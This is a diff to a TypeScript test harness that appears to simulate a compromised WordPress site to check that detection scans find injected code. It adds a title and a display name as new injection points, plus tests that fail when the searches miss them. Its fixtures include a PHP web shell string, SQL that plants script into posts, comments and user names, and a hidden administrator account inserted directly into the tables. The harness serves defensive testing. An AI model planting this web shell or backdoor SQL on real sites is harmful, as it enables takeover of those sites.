@@ -107,7 +107,7 @@ const PHP_OPTION = {name: 'wpc_custom_php', value: '<?php system($_GET["c"]);'};
 const SITE_USER = `'${SITE.database}'@'localhost'`;
 const WIDE_GRANT = `GRANT CREATE USER ON *.* TO ${SITE_USER}`;
 /** Where else injected code renders (review r52 LOW 3): the Sample Page's excerpt, Uncategorized's description, the first comment. */
-const INJECTED_ELSEWHERE = {excerptOf: 2, termId: 1, commentId: 1};
+const INJECTED_ELSEWHERE = {excerptOf: 2, termId: 1, commentId: 1, titleOf: 3, titleWas: 'Privacy Policy'};
 /**
  * An administrator the attacker wrote straight into the tables (WordPress's own sanitize_user would refuse the name),
  * its login holding escape codes that erase the line (review r52): as cat -v shows it, and as SQL writes it.
@@ -244,6 +244,8 @@ wp --path=${SITE.root} db query <<'SQL'
 UPDATE wp_posts SET post_excerpt = '${INJECTED_HANDLER}' WHERE ID = ${INJECTED_ELSEWHERE.excerptOf};
 UPDATE wp_term_taxonomy SET description = '${INJECTED}' WHERE term_id = ${INJECTED_ELSEWHERE.termId};
 UPDATE wp_comments SET comment_content = CONCAT(comment_content, '${INJECTED}') WHERE comment_ID = ${INJECTED_ELSEWHERE.commentId};
+UPDATE wp_posts SET post_title = CONCAT(post_title, '${INJECTED}') WHERE ID = ${INJECTED_ELSEWHERE.titleOf};
+UPDATE wp_users SET display_name = '${INJECTED_HANDLER}' WHERE user_login = '${APP_PASSWORD_USER}';
 INSERT INTO wp_users (user_login, user_pass, user_nicename, user_email, user_registered, display_name)
   VALUES (${ESCAPED_LOGIN.sql}, '', 'wproot', '${ESCAPED_LOGIN.email}', NOW(), 'wproot');
 INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES (LAST_INSERT_ID(), 'wp_capabilities', 'a:1:{s:13:"administrator";b:1;}');
@@ -799,6 +801,12 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
         `the checks that load WordPress did not find the script injected into post 1, ${INJECTED_META}, ${INJECTED_OPTION} and ${INJECTED_HANDLER_OPTION}:\n${loaded}`,
     );
     const missedElsewhere = [
+      // Review r68b M1: core's the_title() prints a title unescaped, and an account's display name shows on its posts
+      [
+        `the title of post ${INJECTED_ELSEWHERE.titleOf}`,
+        `^${INJECTED_ELSEWHERE.titleOf}\\tpage\\tdraft\\t${literal(INJECTED_ELSEWHERE.titleWas + INJECTED)}$`,
+      ],
+      [`the display name of ${APP_PASSWORD_USER}`, `^user\\t\\d+\\twp_users$`],
       [`the excerpt of post ${INJECTED_ELSEWHERE.excerptOf}`, `^${INJECTED_ELSEWHERE.excerptOf}\\tpage\\tpublish\\tSample Page$`],
       [`the description of category ${INJECTED_ELSEWHERE.termId}`, `^${INJECTED_ELSEWHERE.termId}\\tcategory$`],
       [`comment ${INJECTED_ELSEWHERE.commentId}`, `^${INJECTED_ELSEWHERE.commentId}\\t1\\t1$`],
@@ -806,7 +814,7 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
     ctx.expect(
       missedElsewhere.length === 0,
       LOADING_CHECKS,
-      `the searches also find the handler in the excerpt of post ${INJECTED_ELSEWHERE.excerptOf} (the Sample Page), the script in category ${INJECTED_ELSEWHERE.termId}'s description and in comment ${INJECTED_ELSEWHERE.commentId} (approved)`,
+      `the searches also find the script in the title of post ${INJECTED_ELSEWHERE.titleOf} (a draft), the handler in ${APP_PASSWORD_USER}'s display name and in the excerpt of post ${INJECTED_ELSEWHERE.excerptOf} (the Sample Page), the script in category ${INJECTED_ELSEWHERE.termId}'s description and in comment ${INJECTED_ELSEWHERE.commentId} (approved)`,
       () => `the searches for injected code missed ${missedElsewhere.map(([where]) => where).join(', ')}:\n${loaded}`,
     );
     const missedWider = [
@@ -1174,10 +1182,22 @@ export const wordpressSecurityRecipe: Recipe = {
       expect: /did not find the script injected into post 1, _elementor_data, wpc_footer_code and wpc_header_code/,
     },
     {
+      what: 'search the content and excerpt of posts, not their titles (the query before review r68b M1)',
+      ref: LOADING_CHECKS,
+      edit: replace("CONCAT_WS(' ', post_title, post_content, post_excerpt)", 'CONCAT(post_content, post_excerpt)'),
+      expect: /the searches for injected code missed the title of post 3:/,
+    },
+    {
+      what: "leave accounts' names and sites out of the search (before review r68b M1)",
+      ref: LOADING_CHECKS,
+      edit: replace(/ UNION ALL SELECT 'user', ID, 'wp_users' FROM wp_users\s+WHERE CONCAT_WS\([^)]*\) REGEXP '\$P'/, ''),
+      expect: /the searches for injected code missed the display name of wpeditor:/,
+    },
+    {
       what: 'search post_content only, not the excerpt (the posts query before the fix of review r52 LOW 3)',
       ref: LOADING_CHECKS,
-      edit: replace('WHERE CONCAT(post_content, post_excerpt) REGEXP', 'WHERE post_content REGEXP'),
-      expect: /the searches for injected code missed the excerpt of post 2:/,
+      edit: replace("WHERE CONCAT_WS(' ', post_title, post_content, post_excerpt) REGEXP", 'WHERE post_content REGEXP'),
+      expect: /the searches for injected code missed (the title of post 3, )?the excerpt of post 2:/,
     },
     {
       what: 'drop the search of category and tag descriptions',
